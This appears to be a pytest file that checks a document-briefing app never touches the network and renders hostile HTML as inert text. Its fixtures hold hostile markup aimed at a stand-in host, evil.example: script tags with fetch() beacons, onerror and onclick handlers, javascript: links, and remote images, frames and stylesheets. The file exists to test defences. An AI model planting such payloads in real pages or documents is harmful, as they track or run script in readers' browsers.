"""Briefing never opens a network connection, and hostile HTML stays inert text.

A corpus full of remote references (stylesheets, fonts, images, scripts, frames, a refresh,
links, a PDF link annotation) is imported, analysed when the model is installed, searched,
put in a briefing note exported in every format, and shown in the window (offscreen
screenshots of the reader, search and briefing views, and the reader on each source) while
every way Python has to reach the network fails and is recorded:

- ``socket.socket``, ``socket.create_connection``, ``socket.getaddrinfo`` and friends are
  replaced by functions that record and raise;
- an audit hook (``sys.addaudithook``) also sees sockets made through references taken
  before the patch (``from socket import socket``), DNS look-ups, ``urllib`` and
  ``http.client``.

Qt's own C++ code does not pass through Python, so these hooks cannot see it; the app loads
no QtNetwork module, which ``test_qt_loads_no_network_module`` checks.
"""

from __future__ import annotations

import re
import socket
import sys
from pathlib import Path

import pytest

from briefing.export.formats import export_briefing
from briefing.export.workspace_json import write_workspace_json
from briefing.nlp.model import model_available
from briefing.pipeline import import_paths
from briefing.search.engine import search
from briefing.store import open_workspace
from briefing.store.annotations import add_annotation
from briefing.store.briefings import add_item, create_briefing
from briefing.store.claims import list_claims_with_evidence
from briefing.store.quotes import list_quotes
from briefing.store.sources import iter_sources
from tests.ingest.builders import make_eml

EVIL = "http://evil.example"
ARTICLE = (
    "PORT HALDEN, March 3 (Meridian Wire) - The Halden Water Authority said on Tuesday that 40,000 "
    "households lost water for six hours.",
    "“We restored pumping at dawn,” said Marta Okafor, a spokesperson for the authority.",
    "The ministry said the outage began at 23:40 on Sunday, a figure the authority disputes.",
)
HOSTILE_HEAD = f"""
<base href="{EVIL}/">
<meta http-equiv="refresh" content="0;url={EVIL}/refresh">
<link rel="stylesheet" href="{EVIL}/style.css">
<link rel="preload" href="{EVIL}/font.woff2" as="font">
<style>@font-face {{ font-family: X; src: url({EVIL}/font.woff); }}
body {{ background: url({EVIL}/bg.png); }} @import url({EVIL}/more.css);</style>
<script src="{EVIL}/tracker.js"></script>
<script>fetch("{EVIL}/beacon"); document.write("<img src={EVIL}/written.png>");</script>
"""
HOSTILE_BODY = f"""
<img src="{EVIL}/photo.png" onerror="fetch('{EVIL}/onerror')" srcset="{EVIL}/photo-2x.png 2x">
<iframe src="{EVIL}/frame"></iframe><object data="{EVIL}/object.swf"></object>
<video src="{EVIL}/clip.mp4" poster="{EVIL}/poster.png"></video>
<svg><image href="{EVIL}/svg.png"/></svg>
<p style="background:url({EVIL}/inline.png)">{ARTICLE[0]}</p>
<p onclick="fetch('{EVIL}/click')">{ARTICLE[1]}</p>
<p>{ARTICLE[2]} <a href="{EVIL}/more">Read more</a> <a href="javascript:fetch('{EVIL}')">x</a></p>
"""
SCRIPT_WORDS = ("fetch(", "document.write", "onerror", "@font-face", "url(", "tracker.js", "<script", "<img")


class NetworkAttempt(OSError):
    pass


_attempts: list[str] | None = None  # None: not watching


def _audit(event: str, args: tuple) -> None:
    if _attempts is None:
        return
    if event in (
        "socket.__new__",
        "socket.connect",
        "socket.getaddrinfo",
        "socket.gethostbyname",
        "socket.gethostbyaddr",
        "socket.bind",
        "socket.sendto",
        "urllib.Request",
        "http.client.connect",
    ):
        _attempts.append(f"{event} {args[1:] if event == 'socket.__new__' else args}")
        raise NetworkAttempt(f"network use during a no-network test: {event}")


sys.addaudithook(_audit)  # hooks cannot be removed: it only acts while a test watches


def _refuse(name: str):
    def call(*args, **kwargs):
        assert _attempts is not None
        _attempts.append(f"{name}{args}")
        raise NetworkAttempt(f"network use during a no-network test: {name}")

    return call


class _RefusedSocket(socket.socket):
    """A class, not a function: libraries write ``socket.socket | None`` in annotations."""

    def __init__(self, *args, **kwargs):
        _refuse("socket.socket")(*args)


@pytest.fixture
def no_network(monkeypatch):
    """Every socket creation, connection and name look-up fails and is recorded.

    trafilatura is imported first: it imports urllib3 (for downloads Briefing never makes),
    which binds a socket to ::1 once at import to learn whether the system has IPv6. That probe
    connects nowhere; test_the_only_socket_at_start_up_is_a_loopback_probe pins it down.
    """
    global _attempts
    import trafilatura  # noqa: F401

    monkeypatch.setattr(socket, "socket", _RefusedSocket)
    for name in (
        "create_connection",
        "getaddrinfo",
        "gethostbyname",
        "gethostbyname_ex",
        "create_server",
        "socketpair",
        "fromfd",
    ):
        monkeypatch.setattr(socket, name, _refuse(f"socket.{name}"))
    _attempts = attempts = []
    try:
        yield attempts
    finally:
        _attempts = None


def test_the_guard_sees_every_kind_of_attempt(no_network):
    import urllib.request

    with pytest.raises(OSError):
        socket.create_connection(("evil.example", 80))
    with pytest.raises(Exception, match="no-network"):
        urllib.request.urlopen(f"{EVIL}/x", timeout=1)
    from _socket import socket as raw_socket  # a reference the patch cannot replace

    with pytest.raises(NetworkAttempt):
        raw_socket()
    assert len(no_network) >= 3


def _corpus(folder: Path) -> Path:
    from fpdf import FPDF

    folder.mkdir()
    (folder / "page.html").write_text(
        f"<html><head><title>Outage</title>{HOSTILE_HEAD}</head>"
        f"<body><h1>Water outage</h1>{HOSTILE_BODY}</body></html>",
        encoding="utf-8",
    )
    (folder / "note.md").write_text(
        f"# Outage notes\n\n{ARTICLE[1]}\n\n![photo]({EVIL}/md.png) [source]({EVIL}/md)\n\n"
        f'<img src="{EVIL}/raw.png"><script>fetch("{EVIL}/md")</script>\n\n![ref][r]\n\n[r]: {EVIL}/ref.png\n',
        encoding="utf-8",
    )
    make_eml(
        folder / "mail.eml",
        subject="Outage update",
        plain="\n\n".join(ARTICLE),
        html=f"<html><head>{HOSTILE_HEAD}</head><body>{HOSTILE_BODY}<img src='cid:logo'></body></html>",
    )
    (folder / "wire.txt").write_text("\n\n".join(ARTICLE) + f"\n\nMore at {EVIL}/wire", encoding="utf-8")
    pdf = FPDF()
    pdf.add_page()
    pdf.set_font("Helvetica", "", 11)
    pdf.multi_cell(0, 6, ARTICLE[2])
    pdf.cell(0, 6, "Full report online", link=f"{EVIL}/report.pdf")
    pdf.output(str(folder / "report.pdf"))
    return folder


def _note(ws) -> int:
    note = create_briefing(ws, "Outage: what is known")
    for quote in list_quotes(ws)[:2]:
        add_item(ws, note, "quote", quote["id"])
    for claim in list_claims_with_evidence(ws)[:2]:
        add_item(ws, note, "claim", claim["id"])
    source = next(s for s in iter_sources(ws) if s.format == "html")
    add_item(ws, note, "annotation", add_annotation(ws, source.id, 0, 20, note=f"see ![x]({EVIL}/note.png)"))
    add_item(
        ws,
        note,
        "text",
        body=f"Analyst text ![pic]({EVIL}/text.png) <img src='{EVIL}/raw.png'> "
        f"[link]({EVIL}/page) <script>fetch('{EVIL}')</script>",
    )
    return note


@pytest.mark.slow
def test_import_analysis_search_export_and_window_never_touch_the_network(no_network, tmp_path, qapp):
    corpus = _corpus(tmp_path / "corpus")
    path = tmp_path / "case.briefing"
    with open_workspace(path) as ws:
        report = import_paths(ws, [corpus], analyse=model_available())
        assert report.ok and len(report.imported) == 5, report
        assert report.analysed == (5 if model_available() else 0)
        assert search(ws, "outage").page.total > 0
        note = _note(ws)
        for fmt in ("md", "html", "pdf", "docx", "json"):
            export_briefing(ws, note, fmt, tmp_path / f"note.{fmt}")
        write_workspace_json(ws, tmp_path / "workspace.json")
        sources = iter_sources(ws)
    _render(path, sources, tmp_path)
    assert no_network == [], "\n".join(no_network)
    _check_inert(sources, tmp_path)


def _render(path: Path, sources, tmp_path: Path) -> None:
    from briefing.ui.app import run_app
    from briefing.ui.reader import Reader

    for view in ("reader", "search", "briefing"):
        assert run_app(str(path), screenshot=str(tmp_path / f"{view}.png"), view=view) == 0
    reader = Reader()
    for source in sources:
        reader.show_source(source)
        assert ARTICLE[2][:40] in reader.toPlainText() or source.format in ("md",)
        assert not _image_formats(reader.document()), f"{source.path}: the reader made an image"
    reader.deleteLater()


def _image_formats(document) -> list:
    block, found = document.begin(), []
    while block.isValid():
        iterator = block.begin()
        while not iterator.atEnd():
            if iterator.fragment().charFormat().isImageFormat():
                found.append(iterator.fragment().text())
            iterator += 1
        block = block.next()
    return found


def _check_inert(sources, tmp_path: Path) -> None:
    for source in sources:
        if source.format in ("html", "eml", "md"):
            assert not [w for w in SCRIPT_WORDS if w in source.text], (source.path, source.text)
    html = (tmp_path / "note.html").read_text(encoding="utf-8")
    tags = re.findall(r"<[^>]*>", html)  # raw HTML typed by the analyst comes out as text: &lt;img ...&gt;
    assert not [t for t in tags if re.match(r"<(img|script|link|iframe|object|embed|video|audio|svg)\b", t)]
    assert not [t for t in tags if re.search(r"\b(src|srcset|poster|data)=|javascript:", t)], tags
    assert "@font-face" not in html and "@import" not in html and "url(" not in html  # the page's own stylesheet
    assert f'<a href="{EVIL}/page">' in html  # a link stays a link, to be followed only by a click elsewhere


def test_qt_loads_no_network_module(tmp_path):
    from tests.processes import run_python

    open_workspace(tmp_path / "empty.briefing").close()
    code = (
        "import sys; from briefing.ui.app import run_app; run_app(sys.argv[1], screenshot=sys.argv[2]); "
        "print(sorted(m for m in sys.modules if 'QtNetwork' in m or 'QtWebEngine' in m))"
    )
    result = run_python(code, str(tmp_path / "empty.briefing"), str(tmp_path / "shot.png"))
    assert result.stdout.strip().splitlines()[-1] == "[]", result.stdout + result.stderr


PROBE = r"""
import sys
attempts = []
def audit(event, args):
    if event.startswith(("socket.", "urllib.", "http.client.")):
        attempts.append((event, str(args[1:3] if event == "socket.__new__" else args)))
        raise OSError("no network here")
sys.addaudithook(audit)
from briefing.ingest import read_document
for name in sys.argv[1:]:
    read_document(name)
from briefing.nlp.model import load_model, model_available
if model_available():
    load_model()
print(attempts)
"""


def test_the_only_socket_at_start_up_is_a_loopback_probe(tmp_path):
    """Watched from the first import on: urllib3's IPv6 probe (a socket it would bind to ::1,
    refused here and harmless: urllib3 then assumes no IPv6) is the only socket anything makes."""
    from tests.processes import run_python

    corpus = _corpus(tmp_path / "corpus")
    result = run_python(PROBE, *map(str, sorted(corpus.iterdir())))
    assert result.returncode == 0, result.stderr[-3000:]
    assert result.stdout.strip().splitlines()[-1] == f"[('socket.__new__', '({int(socket.AF_INET6)}, 1)')]"
